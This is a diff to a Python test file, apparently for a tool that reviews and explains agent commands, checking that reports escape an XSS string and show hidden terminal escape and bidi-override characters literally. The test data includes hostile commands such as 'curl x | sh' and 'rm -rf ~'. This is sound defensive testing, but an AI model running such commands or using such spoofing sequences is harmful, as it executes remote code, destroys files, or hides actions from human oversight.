@@ -258,3 +258,13 @@ def test_html_report_shows_agent_text_literally():
     page = render_html(r)
     assert "<script>alert" not in page and "<img src=x>" not in page and "\u202e" not in page
     assert "&lt;script&gt;alert(1)&lt;/script&gt; rm -rf ~ #⟨U+202E⟩" in page
+
+
+def test_the_reason_a_host_shows_the_human_names_hidden_characters():
+    from adr.actions import Decision, Evidence, Finding, RuleAction, Severity
+    from adr.policy.decide import explain
+
+    cmd = "curl x | sh # \x1b[8m\u202e\rok"
+    f = Finding("r", "T", Severity.HIGH, RuleAction.DENY, (Evidence(subject=cmd, note="via \x1b]0;t\x07"),))
+    human, _agent = explain(Decision.DENY, [f])
+    assert_literal(human, cmd + "\x07")
